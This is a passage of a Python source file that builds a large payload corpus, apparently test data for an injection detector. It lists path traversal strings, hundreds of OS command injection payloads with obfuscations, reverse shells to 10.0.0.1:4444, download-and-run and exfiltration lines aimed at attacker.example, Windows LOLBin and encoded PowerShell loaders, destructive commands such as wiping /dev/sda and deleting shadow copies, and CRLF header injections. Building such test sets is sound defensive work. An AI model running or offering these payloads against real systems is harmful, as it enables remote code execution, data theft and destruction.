    ("\uff0e\uff0e/\uff0e\uff0e/etc/passwd", "full-width dots only (NFKC)"),
    ("..\uff0f..\uff0f..\uff0fetc\uff0fshadow", "full-width slashes only (NFKC)"),
    ("/\uff45\uff54\uff43/\uff50\uff41\uff53\uff53\uff57\uff44", "full-width letters of /etc/passwd (NFKC)"),
    ("../../../../ETC/PASSWD", "upper case Unix path"),
    ("/EtC/pAsSwD", "mixed case Unix path"),
    ("..\\..\\..\\WINDOWS\\system32\\drivers\\etc\\HOSTS", "upper case Windows path"),
    ("../\t../\t../etc/passwd", "tabs between segments"),
    ("..\x00/..\x00/etc/passwd", "NUL inside segments"),
]

TRAV_RAW += [
    ("..%2f..%2f..%2f..%2fetc%2fgroup", "..%2f"),
    ("..%5c..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam", "..%5c"),
    ("%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini", "%2e%2e%5c"),
    ("%2e%2e%5c%2e%2e%5cetc%5cpasswd", "%2e%2e%5c to a Unix file"),
    (".%2e/.%2e/.%2e/.%2e/etc/passwd", ".%2e/ half-encoded dots"),
    ("%2e./%2e./%2e./etc/passwd", "%2e./ half-encoded dots"),
    ("..%252f..%252f..%252f..%252fetc%252fshadow", "%252f double encoding"),
    ("%252e%252e%252fetc%252fhosts", "%252e double encoding"),
    ("%252e%252e%255c%252e%252e%255cwindows%255cwin.ini", "%252e%255c double encoding"),
    ("..%25%35%63..%25%35%63windows%25%35%63win.ini", "nibble double encoding %25%35%63"),
    ("%%32%65%%32%65/%%32%65%%32%65/etc/passwd", "nibble double encoding %%32%65"),
    ("..%c0%2f..%c0%2fetc%c0%2fpasswd", "overlong UTF-8 slash %c0%2f (invalid)"),
    ("..%e0%80%af..%e0%80%afetc%e0%80%afpasswd", "overlong 3-byte UTF-8 slash %e0%80%af"),
    ("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afwindows%c0%afwin.ini", "overlong UTF-8 dot and slash"),
    ("%c0%2e%c0%2e/%c0%2e%c0%2e/etc/passwd", "overlong UTF-8 dot %c0%2e (invalid)"),
    ("..%c1%1c..%c1%1cboot.ini", "overlong UTF-8 backslash %c1%1c (invalid)"),
    ("..%u2216..%u2216windows%u2216win.ini", "IIS %u2216 set-minus"),
    ("..%u2215..%u2215etc%u2215passwd", "IIS %u2215 division slash"),
    ("%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd", "IIS %u002e%u002f"),
    ("..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config", "..%5c to web.config"),
    ("..%255c..%255c..%255cboot.ini", "..%255c double-encoded backslash"),
    ("....%5c%5c....%5c%5cwindows%5c%5cwin.ini", "....\\\\ filter bypass, encoded"),
    ("..%2f..%2f..%2fetc%2fpasswd%00.jpg", "encoded with %00.jpg"),
    ("%2fetc%2fpasswd%00", "encoded absolute path, %00"),
    ("..%00%2f..%00%2fetc%2fpasswd", "%00 inside segments"),
    ("..%0d%2f..%0d%2fetc%2fpasswd", "%0d inside segments"),
    ("..%ff%2f..%ff%2fetc%2fpasswd", "invalid byte %ff inside segments"),
    ("..%2f%2e%2e%2f%2e%2e%2fWEB-INF%2fweb.xml", "mixed encoding to WEB-INF"),
    ("%2e%2e%2f%2e%2e%2f.git%2fconfig", "encoded to .git/config"),
    ("..%2F..%2F..%2F.env", "..%2F to .env"),
    ("file%3a%2f%2f%2fc%3a%2fwindows%2fwin.ini", "encoded file:/// Windows"),
    ("%5c%5c..%5c..%5cwindows%5cwin.ini", "leading %5c%5c"),
    ("..%5c%2e%2e%5c%2e%2e%5c%2e%2e%5cetc%5cshadow", "mixed %5c / %2e"),
    ("/%2e%2e/%2e%2e/%2e%2e/proc/self/environ", "%2e%2e segments"),
]
TRAV_PATH_ONLY_RAW += [
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "Apache .%2e/ normalisation (CVE-2021-41773 style)"),
    ("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/passwd", "Apache nibble-encoded .%%32%65 (CVE-2021-42013 style)"),
    ("/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "Apache icons alias .%2e"),
    ("/app/..;/manager/html", "Tomcat ..;/ to the manager app"),
    ("/api/..;/admin/users", "..;/ to an admin route"),
    ("/static/..;/WEB-INF/web.xml", "..;/ to WEB-INF"),
    ("/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "leading %2e%2e segments"),
    ("/%5C../%5C../%5C../etc/passwd", "%5C../ segments"),
    ("/..%5c..%5c..%5cwindows/win.ini", "..%5c in target"),
    ("/images/..%2f..%2f..%2fetc%2fpasswd%00.png", "..%2f with %00.png"),
    ("/static/%2e%2e%2f%2e%2e%2f.env", "encoded to .env"),
    ("/files/..%c0%af..%c0%afetc/passwd", "overlong UTF-8 slash in target"),
    ("/download/....//....//....//etc/passwd", "....// in target"),
    ("/public/..%252f..%252f..%252fetc%252fshadow", "double-encoded slash in target"),
    ("/WEB-INF/web.xml", "direct WEB-INF request"),
    ("/.git/config", "direct .git/config request"),
    ("/.env", "direct .env request"),
    ("/assets/../../../../proc/self/environ", "raw ../ in request target (curl --path-as-is)"),
    ("/;/../../../etc/passwd", "/;/ path parameter before ../"),
    ("/.%2e/.%2e/.%2e/etc/shadow", "leading .%2e segments"),
]

_TR_SRC2 = ["/etc/group", "/root/.ssh/id_rsa", "WEB-INF/web.xml", ".git/config", "/.env",
            "C:\\inetpub\\wwwroot\\web.config", "c:/boot.ini", "/proc/self/status",
            "..\\..\\..\\..\\..\\windows\\system32\\config\\sam", "../../../../../var/www/html/.env",
            "/var/www/html/wp-config.php", "../../../../../proc/self/cmdline"]

TRAV_TRANSFORMS += [
    ("double URL-encoding", enc_double, "raw", _TR_SRC2[4:9]),
    ("full-width dots/slashes (NFKC)", fw_dots_slashes, "plain", _TR_SRC2[8:10]),
    ("XML character references for dots and slashes", identity, "xml:./\\", _TR_SRC[0:4] + _TR_SRC2[8:10]),
]

# ----- OS command injection ------------------------------------------------
CMDI_GROUPS = [
    ("command separator ;", [
        "; cat /etc/passwd", ";cat /etc/passwd", "; uname -a", "; id", ";/bin/ls -al",
        "; rm -rf /tmp/*", ";echo pwned > /var/www/html/x.txt", "a.txt; id", "; sleep 10",
        "; ping -c 10 127.0.0.1", "; /bin/sh -c 'id'", "; python3 -c 'import os; os.system(\"id\")'",
        "; perl -e 'print `id`'", ";id#", "example.com; ls -la /", "127.0.0.1; id",
        "; curl -s http://attacker.example/s.sh | bash",
        "; wget http://attacker.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", '"; id; echo "', "'; id; echo '",
    ]),
    ("pipe", [
        "| id", "|| id", "127.0.0.1 | whoami", "| sleep 5", "| nc attacker.example 4444 -e /bin/sh",
        "| cat /etc/passwd #", "|/usr/bin/id", "| nslookup $(whoami).attacker.example",
        "| type C:\\Windows\\win.ini", "| cmd /c whoami",
        "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\"",
    ]),
    ("ampersand chaining", [
        "& whoami", "&& whoami", "&& ping -c 1 attacker.example", "127.0.0.1 && cat /etc/passwd",
        "file.txt && id", "& ping -n 5 127.0.0.1 &", "& dir C:\\", "& net user", "& cmd /c whoami",
        "&& curl http://attacker.example/x.sh | sh", "google.com && id",
    ]),
    ("command substitution", [
        "`whoami`", "$(whoami)", "$(curl http://attacker.example/x.sh | sh)", "`curl attacker.example`",
        "$(sleep 5)", "`sleep 5`", "$(id)", "$(echo aWQ= | base64 -d)", "x$(cat /etc/passwd)x",
        "`cat /etc/shadow`", "$(wget -qO- http://attacker.example/a)",
    ]),
    ("newline separator", ["\nid", "\ncat /etc/passwd", "127.0.0.1\nwhoami", "foo\n/bin/sh -c id\n"]),
    ("shell obfuscation", [
        ";cat${IFS}/etc/passwd", ";{cat,/etc/passwd}", ";w'h'o'am'i", ';w"h"o"am"i', ";who\\ami",
        ";c\\at /et\\c/pas\\swd", ";/???/??t /???/p??s??", ";$u cat$u /etc$u/passwd",
        "&& w^h^o^a^m^i", "; ca''t /etc/pa''sswd", ";IFS=,;`cat<<<uname,-a`",
    ]),
    ("Shellshock", [
        "() { :; }; /bin/bash -c \"cat /etc/passwd\"", "() { :;}; echo; /usr/bin/id",
        "() { _; } >_[$($())] { id; }", "() { :; }; /bin/sleep 5",
    ]),
    ("SSI remote execution", [
        '<!--#exec cmd="/bin/cat /etc/passwd" -->', '<!--#exec cmd="id" -->',
    ]),
]

CMDI_EVASIONS = [
    ("\uff1b cat /etc/passwd", "full-width semicolon (NFKC-normalising app)"),
    ("\uff5c id", "full-width pipe (NFKC-normalising app)"),
    ("& WhOaMi", "mixed case (cmd.exe is case-insensitive)"),
    ("| CMD /C WHOAMI", "upper case Windows command"),
    ("127.0.0.1\t&& id", "tab before &&"),
    (";\tcat\t/etc/passwd", "tabs as separators"),
    ("$(printf '\\x69\\x64')", "printf hex escapes"),
    ("a;$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d)", "base64-decoded command"),
]

CMDI_RAW = [
    ("%0aid", "%0a newline separator"),
    ("%0a%20cat%20/etc/passwd", "%0a newline separator"),
    ("127.0.0.1%0aid", "%0a newline after value"),
    ("127.0.0.1%0d%0awhoami", "%0d%0a separator"),
    ("%3Bid", "encoded semicolon"),
    ("%253Bcat%2520%252Fetc%252Fpasswd", "double-encoded separator"),
    ("127.0.0.1%26%26whoami", "encoded &&"),
    ("%7C%7Cid", "encoded ||"),
    ("%60id%60", "encoded backticks"),
    ("%24(whoami)", "encoded $()"),
    ("x;cat%09/etc/passwd", "%09 tab separator"),
    ("127.0.0.1|id", "bare pipe"),
    ("%3B+cat+%2Fetc%2Fpasswd", "'+' whitespace"),
    ("%0Acurl%20http://attacker.example/x.sh%7Csh", "%0A then pipe to sh"),
]

_CM_SRC = ["; cat /etc/passwd", "| id", "&& whoami", "`whoami`", "$(whoami)",
           "; uname -a", "127.0.0.1; id", "|| id", "$(curl http://attacker.example/x.sh | sh)",
           "& whoami", "; sleep 10", "&& ping -c 1 attacker.example", "; id"]

CMDI_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _CM_SRC[0:4]),
    ("double URL-encoding", enc_double, "raw", _CM_SRC[3:9]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _CM_SRC[9:12]),
    ("%0a instead of ';'", sep_raw(";", "%0a"), "raw", ["; cat /etc/passwd", "; uname -a", "127.0.0.1; id", "; sleep 10"]),
    ("%09 tab as whitespace", ws_raw("%09", keep="'()*,=!-/"), "raw", _CM_SRC[0:3] + ["; sleep 10"]),
    ("${IFS} as whitespace", ifs_for_spaces, "plain", ["; cat /etc/passwd", "; uname -a", "&& ping -c 1 attacker.example"]),
    ("cmd.exe caret splitting", caret_split, "plain", ["& whoami", "| cmd /c whoami"]),
    ("full-width metacharacters (NFKC-normalising app)", fw_punct, "plain", ["`whoami`", "$(whoami)"]),
    ("JSON \\u escaped metacharacters", identity, "json:;|&`$", _CM_SRC[0:5]),
]

# More OS command injection.  Unix: every common separator in front of many binaries (by name
# and by full path, with arguments); obfuscation ($IFS, brace expansion, globbing, quote and
# backslash splitting, empty variables, ANSI-C quoting); redirections; reverse shells and
# download-and-run; commands at the start of a value when the structure is unmistakable;
# argument injection.  Windows: cmd.exe, environment variables, LOLBins, PowerShell.
_CM_UNIX_CMDS = [
    "id", "whoami", "uname -a", "cat /etc/passwd", "/bin/cat /etc/shadow", "/usr/bin/id", "ls -la /", "pwd",
    "hostname", "ifconfig -a", "netstat -antp", "ps aux", "env", "cat /proc/self/environ",
    "head -n 5 /etc/passwd", "tail -n 20 /var/log/auth.log", "sleep 5", "ping -c 3 attacker.example",
    "nslookup attacker.example", "dig +short attacker.example", "curl http://attacker.example/", "wget http://attacker.example/x",
    "nc attacker.example 4444", "/bin/busybox telnetd -l /bin/sh -p 9999", "python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "php -r 'system(\"id\");'", "ruby -e 'exec \"id\"'", "perl -e 'exec \"/bin/sh\"'", "echo pwned > /tmp/x",
    "touch /tmp/pwned", "rm -f /var/www/html/index.html", "find / -perm -4000 -type f",
    "sudo -l", "crontab -l", "awk 'BEGIN{system(\"id\")}'", "xxd /etc/passwd", "base64 /etc/passwd",
    "/usr/bin/curl -d @/etc/passwd http://attacker.example/", "cat ~/.ssh/id_rsa", "/sbin/ifconfig", "/usr/bin/whoami",
    "getent passwd", "cut -d: -f1 /etc/passwd", "/bin/ls -la /root", "w", "lsb_release -a",
    "/usr/bin/env", "shutdown -h now", "/usr/sbin/useradd -o -u 0 eve",
    "echo 'eve::0:0::/root:/bin/sh' >> /etc/passwd", "dd if=/dev/zero of=/dev/sda", "nohup /tmp/x &",
]
_CM_UNIX_SEPS = [
    ("; {c}", "separator ;"), (";{c}", "separator ; (no space)"), ("| {c}", "pipe"), ("|{c}", "pipe (no space)"),
    ("|| {c}", "||"), ("& {c}", "background &"), ("&& {c}", "&&"), ("&&{c}", "&& (no space)"), ("\n{c}", "newline"),
    ("$({c})", "$()"), ("`{c}`", "backticks"), ("127.0.0.1; {c}", "after a value, ;"), ("example.com && {c}", "after a value, &&"),
    ("8.8.8.8 | {c}", "after a value, |"), ("file.txt`{c}`", "after a value, backticks"), ("x$({c})", "inside a value, $()"),
    ("a.png; {c} #", "after a value, ; and trailing #"), ("'; {c}; '", "quote breakout ;"), ('"; {c}; "', "double-quote breakout ;"),
    ("1\n{c}\n", "newline-delimited"), ("localhost||{c}", "after a value, ||"), ("test & {c} &", "surrounded by &"),
]


def _cmdi_unix_cases():
    r = random.Random(SEED + 101)
    out = []
    for cmd in _CM_UNIX_CMDS:
        tmpl, note = r.choice(_CM_UNIX_SEPS)
        out.append((tmpl.replace("{c}", cmd), "unix command, " + note))
    return out


CMDI_GROUPS += [
    ("unix command at start of value (no separator)", [
        "bash -c 'id'", "sh -c \"cat /etc/passwd\"", "/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444",
        "ncat 10.0.0.1 4444 -e /bin/bash", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
        "curl -s http://attacker.example/i.sh | sh", "wget -qO- http://attacker.example/i.sh | bash",
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'",
        "perl -e 'use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\")'",
        "socat tcp:10.0.0.1:4444 exec:/bin/sh", "telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445",
        "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(1) {s |& getline c; if(c) {while((c |& getline) > 0) print |& s; close(c)}}}'",
        "busybox nc 10.0.0.1 4444 -e /bin/sh", "php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        "echo d2hvYW1p | base64 -d | sh", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
        "bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}", "/bin/sh -c id", "sh -i >& /dev/udp/10.0.0.1/4444 0>&1",
        "mkfifo /tmp/p; nc 10.0.0.1 4444 0</tmp/p | /bin/sh > /tmp/p 2>&1", "lua -e \"os.execute('id')\"",
        "curl http://attacker.example/x -o /tmp/x && chmod +x /tmp/x && /tmp/x", "wget -O- http://attacker.example/s | sh",
        "exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read l; do $l 2>&5 >&5; done", "xterm -display 10.0.0.1:1",
        "ruby -rsocket -e 'c=TCPSocket.new(\"10.0.0.1\",4444);$stdin.reopen(c);$stdout.reopen(c);exec \"/bin/sh -i\"'",
        "node -e 'require(\"child_process\").exec(\"id\")'", "openssl s_client -quiet -connect 10.0.0.1:4444 | /bin/sh",
    ]),
    ("unix obfuscation, more", [
        ";c${u}at /e${u}tc/pa${u}sswd", ";cat$IFS/etc/passwd", ";cat${IFS%??}/etc/passwd", ";IFS=_;cmd=cat_/etc/passwd;$cmd",
        ";{ls,-la,/}", ";/bin/c?t /e??/p?ss??", ";/???/?s -la", ";cat /e*c/pa*wd", ";\\c\\a\\t /etc/passwd",
        ";\"c\"a't' /etc/passwd", ";c''at /etc/pass''wd", ";$'\\x63\\x61\\x74' /etc/passwd", ";$(printf 'cat /etc/passwd')",
        ";cat</etc/passwd", ";ls>/tmp/x", ";id>/var/www/html/o.txt", ";echo${IFS}YmFzaCAtaQ==|base64${IFS}-d|sh",
        ";`echo$IFS'aWQ='|base64$IFS-d`", ";who$@ami", ";w\\ho\\am\\i", ";x=who;y=ami;$x$y", ";rev<<<'dwssap/cte/ tac'|sh",
        ";ca$@t /etc/passwd", ";/usr/bin/wh*mi", "|{cat,/etc/passwd}", "&&{id,}", "$({cat,/etc/shadow})",
        "`{wget,http://attacker.example/x}`", "|/???/??t${IFS}/???/p?ss??", ";${PATH:0:1}bin${PATH:0:1}cat /etc/passwd",
        ";c\\\na\\\nt /etc/passwd", ";$(echo -e '\\x69\\x64')", ";$0<<<id", ";a=i;b=d;$a$b", ";tac /etc/passwd",
        ";cat /etc/pass??", ";{printf,aWQ=}|base64 -d|sh", "||`id`||", "&$(sleep${IFS}5)&", ";sleep$IFS$9 5",
        ";cat</???/??ss??", ";l\\s -l\\a /", ";id;#",
    ]),
    ("argument injection", [
        "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh", "--upload-pack=touch /tmp/pwned", "-oProxyCommand=id",
        "-exec id ;", "--use-compress-program=sh -c id", "-TT 'sh -c id'", "--output=/var/www/html/s.php",
        "-o /var/www/html/s.php http://attacker.example/s.txt", "--post-file=/etc/passwd http://attacker.example/",
        "-F 'x=@/etc/passwd' http://attacker.example/", "--config=/tmp/evil.cfg", "-e 'system(\"id\")'",
        "--to-command=sh", "-x /bin/sh", "--rsh=sh -c id",
    ]),
    ("windows cmd.exe", [
        "& dir", "| dir C:\\Users", "& type C:\\Windows\\win.ini", "| type C:\\inetpub\\wwwroot\\web.config", "&& cmd /c whoami",
        "| cmd.exe /c \"net user\"", "& cmd.exe /k ipconfig /all", "& %COMSPEC% /c whoami", "| %SystemRoot%\\System32\\cmd.exe /c dir",
        "& echo %USERPROFILE%", "& set&", "| set PATH", "& net user hacker P@ss123 /add", "& net localgroup administrators hacker /add",
        "& systeminfo", "| tasklist /v", "& ipconfig /all", "& ping -n 10 127.0.0.1", "| nslookup attacker.example",
        "& whoami /priv", "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "& vssadmin delete shadows /all /quiet",
        "& schtasks /create /tn upd /tr \"C:\\Users\\Public\\x.exe\" /sc minute", "| cscript //nologo C:\\Users\\Public\\x.vbs",
        "127.0.0.1 & whoami", "127.0.0.1 | type %WINDIR%\\win.ini", "x.txt & del /f /q C:\\inetpub\\wwwroot\\*", "& echo %COMPUTERNAME%",
        "&& dir %TEMP%", "& copy \\\\attacker.example\\s\\x.exe %TEMP%\\x.exe & %TEMP%\\x.exe", "| more C:\\Windows\\System32\\drivers\\etc\\hosts",
        "& %SYSTEMROOT%\\system32\\cmd.exe /c ver", "& forfiles /p C:\\Windows /m win.ini /c \"cmd /c type @file\"",
        "&timeout /t 5&", "| findstr /si password *.config", "& net view", "& sc query",
    ]),
    ("windows LOLBin download/execute", [
        "& certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe",
        "& bitsadmin /transfer job /download /priority high http://attacker.example/x.exe C:\\Users\\Public\\x.exe",
        "& rundll32 \\\\attacker.example\\share\\x.dll,EntryPoint", "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
        "& regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll", "| mshta http://attacker.example/x.hta",
        "& mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)",
        "& wmic process call create \"cmd /c whoami > C:\\Users\\Public\\o.txt\"", "& wmic /node:10.0.0.5 process call create calc.exe",
        "& msiexec /q /i http://attacker.example/x.msi", "& certutil -decode C:\\Users\\Public\\x.b64 C:\\Users\\Public\\x.exe",
        "& curl.exe -o %TEMP%\\x.exe http://attacker.example/x.exe", "& expand \\\\attacker.example\\s\\x.cab C:\\Users\\Public\\x.exe",
        "& regsvr32.exe /s /i:https://attacker.example/a.sct scrobj.dll", "| wmic os get /format:\"https://attacker.example/x.xsl\"",
    ]),
    ("powershell", [
        "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"",
        "| powershell.exe -ExecutionPolicy Bypass -File \\\\attacker.example\\s\\a.ps1", "; iex (iwr http://attacker.example/a.ps1 -UseBasicParsing)",
        "| Invoke-WebRequest -Uri http://attacker.example/x.exe -OutFile $env:TEMP\\x.exe",
        "; Invoke-Expression (Invoke-WebRequest http://attacker.example/p).Content", "| Start-Process cmd.exe -ArgumentList '/c whoami'",
        "; $env:COMPUTERNAME", "; Get-ChildItem Env:", "| Get-Content C:\\Windows\\win.ini", "; [System.Diagnostics.Process]::Start('calc')",
        "&& powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s=$c.GetStream()\"",
        "; powershell -w hidden -nop -ep bypass -c \"iwr http://attacker.example/x.exe -o $env:TEMP\\x.exe; & $env:TEMP\\x.exe\"",
        "| pwsh -c 'Get-Process'", "; IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))",
        "& powershell (New-Object System.Net.WebClient).DownloadFile('http://attacker.example/x.exe','x.exe');Start-Process x.exe",
        "; Set-MpPreference -DisableRealtimeMonitoring $true", "| Get-WmiObject Win32_Process", "; Invoke-Command -ScriptBlock {whoami}",
        "; $x=$env:USERNAME; iwr \"http://attacker.example/?u=$x\"", "| & {whoami}",
    ]),
    ("windows/powershell at start of value (no separator)", [
        "cmd /c whoami", "cmd.exe /c type C:\\Windows\\win.ini", "cmd /k \"net user\"", "powershell -c iex(iwr http://attacker.example/a)",
        "powershell.exe -NoProfile -NonInteractive -Command \"Get-ChildItem C:\\\"", "pwsh -nop -c \"irm http://attacker.example/a | iex\"",
        "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')", "Invoke-Expression $env:PAYLOAD",
        "certutil.exe -urlcache -f http://attacker.example/x.exe x.exe", "mshta.exe javascript:a=GetObject(\"script:http://attacker.example/x.sct\").Exec();close();",
        "%COMSPEC% /c dir", "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c whoami",
        "regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll", "wmic process call create calc",
    ]),
]


def _ps_enc(cmd):
    return base64.b64encode(cmd.encode("utf-16-le")).decode()


CMDI_GROUPS += [
    ("powershell -enc base64", [
        "| powershell -enc " + _ps_enc("IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"),
        "& powershell.exe -NoP -NonI -W Hidden -Enc " + _ps_enc("whoami"),
        "powershell -e " + _ps_enc("Start-Process calc"),
        "; pwsh -EncodedCommand " + _ps_enc("Get-ChildItem Env:"),
        "&& powershell -ec " + _ps_enc("iwr http://attacker.example/x -OutFile x.exe"),
    ]),
]

CMDI_EVASIONS += [
    ("& w\"h\"o\"a\"m\"i", "cmd.exe double-quote splitting"),
    ("& who^ami", "cmd.exe caret"),
    ("& c^m^d /c w^h^o^a^m^i", "cmd.exe carets everywhere"),
    ("& %COMSPEC:~-7,3% /c whoami", "cmd.exe variable substring spells cmd"),
    ("& set x=who&& set y=ami&& call %x%%y%", "cmd.exe variables"),
    ("; pOwErShElL -NoP -C whoami", "mixed-case powershell"),
    ("| POWERSHELL -ENC " + _ps_enc("id"), "upper-case powershell -enc"),
    ("; iex(\"who\"+\"ami\")", "powershell string concatenation"),
    ("; &('i'+'ex') 'whoami'", "powershell call operator on concatenation"),
    ("; ${env:ComSpec} /c whoami", "powershell ${env:}"),
    ("& cmd /c \"who\"\"ami\"", "cmd.exe doubled quotes"),
    ("\uff06\uff06 whoami", "full-width && (NFKC-normalising app)"),
    ("\uff04(id)", "full-width $ (NFKC-normalising app)"),
    (";\x0bid", "vertical tab after ;"),
    ("|\tid", "tab after pipe"),
    ("\r\nid", "CRLF then command"),
    ("${IFS}id", "leading ${IFS}"),
    (";${IFS}cat${IFS}/etc/passwd${IFS}#", "${IFS} everywhere"),
]

CMDI_EVASIONS += _cmdi_unix_cases()

CMDI_RAW += [
    ("%26%20dir", "encoded & dir"),
    ("%7C%20type%20C%3A%5CWindows%5Cwin.ini", "encoded | type"),
    ("%26%26cmd%20%2Fc%20whoami", "encoded && cmd /c"),
    ("127.0.0.1%0Acat%20/etc/passwd", "%0A after value"),
    ("%0Als%20-la", "%0A ls"),
    ("%0d%0aid", "%0d%0a id"),
    ("%60id%60", "encoded backticks"),
    ("%24%28cat%20%2Fetc%2Fpasswd%29", "encoded $()"),
    ("%3B%24%7BIFS%7Dcat%24%7BIFS%7D%2Fetc%2Fpasswd", "encoded ${IFS}"),
    ("%3B%7Bcat%2C%2Fetc%2Fpasswd%7D", "encoded brace expansion"),
    ("|%20powershell%20-nop%20-c%20whoami", "encoded powershell"),
    ("%26%20powershell%20-enc%20" + _ps_enc("whoami"), "encoded powershell -enc"),
    ("%3Bbash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4444%200%3E%261", "encoded reverse shell"),
    ("%7C%7C%20curl%20attacker.example%7Csh", "encoded || curl | sh"),
    ("%3B%20wget%20-O-%20http%3A%2F%2Fattacker.example%2Fs%20%7C%20sh", "encoded wget -O- | sh"),
    ("x%0Anc%20-e%20%2Fbin%2Fsh%2010.0.0.1%204444", "%0A nc -e"),
    ("%253B%2520id", "double-encoded ; id"),
    ("%25%32%36%25%32%36whoami", "nibble double-encoded &&"),
    ("%26%25COMSPEC%25%20%2Fc%20dir", "encoded %COMSPEC%"),
    (";id%00", "; id with %00"),
    ("%0a%0did", "%0a%0d id"),
    ("%1aid", "%1a substitute character"),
    ("%3B%09id", "%3B%09"),
    ("%7cid", "lowercase-hex pipe"),
    ("$%7BIFS%7Did", "${IFS} partially encoded"),
]

_CM_SRC2 = ["bash -c 'id'", "nc -e /bin/sh 10.0.0.1 4444", "curl -s http://attacker.example/i.sh | sh",
            "& type C:\\Windows\\win.ini", "& %COMSPEC% /c whoami", "| mshta http://attacker.example/x.hta",
            "; iex (iwr http://attacker.example/a.ps1 -UseBasicParsing)", "cmd /c whoami",
            ";cat$IFS/etc/passwd", "& certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe",
            "/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "; Get-ChildItem Env:"]

CMDI_TRANSFORMS += [
    ("double URL-encoding", enc_double, "raw", _CM_SRC2[4:8]),
    ("cmd.exe caret splitting", caret_split, "plain", ["& type C:\\Windows\\win.ini", "cmd /c whoami", "& net user hacker P@ss123 /add"]),
    ("${IFS} as whitespace", ifs_for_spaces, "plain", ["nc -e /bin/sh 10.0.0.1 4444", "bash -c 'id'", "curl -s http://attacker.example/i.sh | sh"]),
    ("JSON \\u escaped metacharacters", identity, "json:;|&`$", _CM_SRC2[0:6]),
    ("XML character references for metacharacters", identity, "xml:;|&`$", _CM_SRC[0:5] + _CM_SRC2[0:3]),
]

# ----- CRLF / header injection ---------------------------------------------
CRLF_GROUPS = [
    ("CRLF header injection", [
        "\r\nSet-Cookie: admin=true", "/home\r\nLocation: https://evil.example",
        "en\r\nSet-Cookie: session=attacker", "x\r\nX-Injected: 1",
        "https://example.com/\r\nRefresh: 0; url=https://evil.example",
        "\r\nAccess-Control-Allow-Origin: *", "\r\nX-XSS-Protection: 0",
        "\r\nContent-Security-Policy: default-src *", "foo\r\n Set-Cookie: x=1",
        "/dashboard\r\nSet-Cookie: sid=fixation123; Path=/",
    ]),
    ("HTTP response splitting", [
        "\r\n\r\n<script>alert(1)</script>",
        "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>pwned</html>",
        "x\r\nContent-Type: text/html\r\n\r\n<h1>defaced</h1>",
    ]),
    ("bare LF / bare CR", ["\nSet-Cookie: a=b", "\rSet-Cookie: a=b", "en\nLocation: https://evil.example"]),
]

CRLF_EVASIONS = [
    ("en-US\\r\\nSet-Cookie: x=1", "literal \\r\\n escape (downstream unescape)"),
    ("ok\\r\\nLocation: https://evil.example", "literal \\r\\n escape (downstream unescape)"),
    ("\\n\\nX-Injected: 1", "literal \\n escape (downstream unescape)"),
    ("example.com%0d%0aSet-Cookie: x=1", "percent-encoded CRLF inside header value"),
    ("https://example.com/%0d%0aLocation:%20https://evil.example", "percent-encoded CRLF inside URL"),
    ("en%0aSet-Cookie: lang=x", "percent-encoded LF inside header value"),
]
CRLF_HEADERISH = {"literal \\r\\n escape (downstream unescape)", "literal \\n escape (downstream unescape)",
                  "percent-encoded CRLF inside header value", "percent-encoded CRLF inside URL",
                  "percent-encoded LF inside header value"}

CRLF_RAW = [
    ("%0d%0aSet-Cookie:%20admin=true", "%0d%0a"),
    ("%0D%0ASet-Cookie:%20admin=true", "%0D%0A upper hex"),
    ("%0aSet-Cookie:crlf=injection", "bare %0a"),
